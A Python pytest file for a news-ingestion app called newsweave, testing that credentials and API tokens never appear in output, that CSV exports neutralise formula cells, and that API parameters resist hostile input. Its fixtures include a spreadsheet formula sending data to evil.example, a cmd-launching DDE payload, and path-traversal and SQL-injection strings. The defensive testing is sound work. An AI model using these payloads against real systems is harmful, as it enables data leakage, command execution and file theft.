"""Secrets are never printed or logged: database passwords, URL credentials, the API token.

Exports of hostile text: CSV cells are inert in spreadsheets, JSONL stays exact.
(Escaping of hostile text in pages is tested in test_web_security.py, the token on writes in test_api.py, SSRF,
redirects and fetch limits in test_ingest_fetch.py, ids that look like paths in test_api.py.)
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy.engine import make_url

from newsweave.ingest.fetch import without_credentials
from newsweave.model import Article
from newsweave.store import open_store
from newsweave.store.backup import write_export
from newsweave.web.app import create_app

NEWSWEAVE = str(Path(sys.executable).parent / "newsweave")
SECRET = "Sup3r-Secret-Pw"
PG_URL = os.environ.get("NEWSWEAVE_TEST_PG_URL", "")


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]  # nothing listens there once the socket is closed


def _run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([NEWSWEAVE, *args], capture_output=True, text=True, timeout=120,
                          env={**os.environ, **(env or {})})


@pytest.mark.parametrize(("command", "from_env"), [(["stats"], False), (["serve"], False),
                                                   (["ingest", "README.md"], True)])
def test_security_database_password_never_printed(command: list[str], from_env: bool) -> None:
    url = f"postgresql://newsweave:{SECRET}@127.0.0.1:{_closed_port()}/newsweave"
    result = _run(*command, env={"NEWSWEAVE_DB": url}) if from_env else _run(*command, "--db", url)
    assert result.returncode != 0, "the store cannot be reached, so the command must fail"
    out = result.stdout + result.stderr
    assert "cannot open store" in out and "127.0.0.1" in out, out[-500:]
    assert SECRET not in out


def test_security_url_credentials_never_printed(tmp_path: Path) -> None:
    url = f"http://alice:{SECRET}@127.0.0.1:{_closed_port()}/feed.xml"
    result = _run("ingest", url, "--db", str(tmp_path / "s.db"), "--no-analyze")
    out = result.stdout + result.stderr
    assert "error:" in out and "127.0.0.1" in out, out[-500:]
    assert SECRET not in out
    assert without_credentials(url) == url.replace(f"alice:{SECRET}@", "")


def _serve(db: str, port: int, token: str) -> subprocess.Popen[str]:
    return subprocess.Popen([NEWSWEAVE, "serve", "--db", db, "--port", str(port)], text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            env={**os.environ, "NEWSWEAVE_API_TOKEN": token})


def _exercise(base: str, token: str) -> None:
    """Wait for the server, then send requests that carry the token, right and wrong, and fail in several ways."""
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        try:
            if httpx.get(base + "/healthz", timeout=5).status_code == 200:
                break
        except httpx.TransportError:
            time.sleep(0.2)
    body = {"articles": [{"id": "sec-1", "text": "The board met on Monday.", "lang": "en"}]}
    assert httpx.post(base + "/api/ingest", json=body, headers={"Authorization": f"Bearer {token}x"}).status_code == 401
    assert httpx.post(base + "/api/ingest", json={"articles": []}, headers={"X-API-Token": token}).status_code == 422
    assert httpx.get(base + f"/api/articles/{token}").status_code == 404
    assert httpx.get(base + "/api/articles", params={"limit": token}).status_code == 422


def test_security_token_and_db_url_never_in_server_output(tmp_path: Path) -> None:
    token = "tok-" + SECRET
    db = PG_URL or str(tmp_path / "served.db")
    port = _closed_port()
    server = _serve(db, port, token)
    try:
        _exercise(f"http://127.0.0.1:{port}", token)
    finally:
        server.terminate()
        output, _ = server.communicate(timeout=30)
    assert "serving" in output, output[-500:]
    assert token not in output and SECRET not in output
    if PG_URL:
        password = make_url(PG_URL).password
        assert password and f":{password}@" not in output


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_security_csv_export_cells_are_inert_and_jsonl_exact(tmp_path: Path) -> None:
    with open_store(tmp_path / "hostile.db") as store:
        store.add_articles([Article(id="h1", text="-2+3 is what the headline said.", title=HOSTILE_TITLE,
                                    source=HOSTILE_SOURCE, lang="en")])
        csv_out, jsonl_out = io.StringIO(), io.StringIO()
        write_export(store, "articles", "csv", csv_out)
        write_export(store, "articles", "jsonl", jsonl_out)
    row = next(csv.DictReader(io.StringIO(csv_out.getvalue())))
    assert row["title"] == "'" + HOSTILE_TITLE and row["source"] == "'" + HOSTILE_SOURCE
    cells = [v for v in row.values() if v]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells), cells
    record = json.loads(jsonl_out.getvalue())
    assert (record["title"], record["source"], record["text"]) == (HOSTILE_TITLE, HOSTILE_SOURCE,
                                                                   "-2+3 is what the headline said.")


@pytest.fixture(scope="module")
def small_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with open_store(tmp_path_factory.mktemp("params") / "p.db") as store:
        store.add_articles([Article(id="p1", text="The council of Graz met on Monday.", lang="en", title="Graz"),
                            Article(id="p2", text="Rada miasta Krakowa zebrała się w poniedziałek.", lang="pl")])
        with TestClient(create_app(store)) as client:
            yield client


hostile_params = st.one_of(st.text(max_size=60), st.sampled_from(
    ["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "p1%00", "' OR 1=1 --", "p1; DROP TABLE articles",
     "*", "%", "_", "\\", "<script>", "-1", "1e309", "NaN", "0" * 400, "\u202e", "\ud7ff", "..", "."]))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=hostile_params)
def test_security_api_parameters_never_500_or_escape(small_client: TestClient, value: str) -> None:
    quoted = quote(value, safe="")
    paths = [f"/api/{kind}/{quoted}" for kind in ("articles", "entities", "events", "stories")]
    paths += [f"/api/entities/{quoted}/mentions", f"/api/stories/{quoted}/timeline", f"/articles/{quoted}",
              f"/static/{quoted}"]
    for path in paths:
        resp = small_client.get(path)
        assert resp.status_code in (200, 404, 422), (path, resp.status_code)
        assert "root:" not in resp.text
    params = {"lang": value, "source": value, "date_from": value, "date_to": value, "entity": value}
    for url, query in (("/api/articles", params), ("/api/events", {"date_from": value, "kind": value}),
                       ("/api/entities", {"name": value, "type": value}), ("/api/quotes", {"speaker": value}),
                       ("/api/facts", {"measure": value}), ("/entities", {"name": value}),
                       ("/api/articles", {"limit": value}), ("/api/articles", {"offset": value})):
        resp = small_client.get(url, params=query)
        assert resp.status_code in (200, 422), (url, query, resp.status_code, resp.text[:200])
    assert small_client.app.state.store.stats().articles == 2  # type: ignore[attr-defined]


def test_security_an_offset_beyond_64_bits_is_refused_not_a_500(small_client: TestClient) -> None:
    """SQLite's integers are 64-bit: a larger offset failed inside the store (found by the test above)."""
    for url in ("/api/articles", "/api/entities", "/entities", "/facts", "/search"):
        assert small_client.get(url, params={"offset": str(2**63)}).status_code == 422, url
        assert small_client.get(url, params={"offset": str(2**63 - 1)}).status_code == 200, url


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=hostile_params)
def test_security_search_parameters_never_500(small_client: TestClient, value: str) -> None:
    """Fewer examples: each search embeds its query, which costs a tenth of a second or more."""
    for url, query in (("/api/search", {"q": value, "lang": value}), ("/search", {"q": value})):
        resp = small_client.get(url, params=query)
        assert resp.status_code in (200, 422), (url, query, resp.status_code, resp.text[:200])
